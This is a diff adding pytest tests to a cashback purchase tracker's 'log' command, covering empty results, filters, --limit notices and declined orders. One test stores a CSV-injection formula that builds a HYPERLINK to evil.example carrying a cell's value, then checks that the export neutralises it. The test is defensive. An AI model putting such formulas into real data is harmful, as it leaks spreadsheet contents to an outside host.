@@ -122,6 +122,43 @@ def test_refusals_exit_1_and_change_nothing(
     assert run_json(capsys, "log") == before
 
 
+def test_log_says_what_it_left_out_and_why_nothing_shows(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    code, out, _ = run(capsys, "log")
+    assert (code, out.strip()) == (
+        0,
+        "No purchases yet. Activate cashback on a partner store from the browser extension.",
+    )
+    for number in ("A-1", "A-2", "A-3"):
+        run_json(capsys, *ADD, number)
+    code, out, _ = run(capsys, "log", "--store", "nosuchstore")
+    assert (code, out.strip()) == (0, "No purchases match these filters.")
+    # Every purchase unless --limit says otherwise, and then a word on stderr, not in the data.
+    code, out, err = run(capsys, "log", "--csv", "--limit", "2")
+    assert (code, len(list(csv.DictReader(io.StringIO(out)))), "--limit 2" in err) == (0, 2, True)
+    code, out, err = run(capsys, "log", "--csv")
+    assert (code, len(list(csv.DictReader(io.StringIO(out)))), err) == (0, 3, "")
+    with pytest.raises(SystemExit) as usage:
+        main(["log", "--limit", "0"])
+    assert usage.value.code == 2
+    assert "'0' is not a whole number of 1 or more" in capsys.readouterr().err
+    # A declined order expects nothing, on no day.
+    run_json(capsys, "order", "decline", "o1")
+    line = next(line for line in run(capsys, "log")[1].splitlines() if " o1 " in line)
+    assert "declined" in line
+    assert "expect" not in line
+
+
+def test_log_csv_never_hands_a_spreadsheet_a_formula(capsys: pytest.CaptureFixture[str]) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Order 42")'
+    run_json(capsys, *ADD, formula)
+    code, out, _ = run(capsys, "log", "--csv")
+    assert code == 0
+    (row,) = csv.DictReader(io.StringIO(out))
+    assert row["order_id"] == "'" + formula
+
+
 def test_ordered_at_accepts_the_same_instant_in_any_zone(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
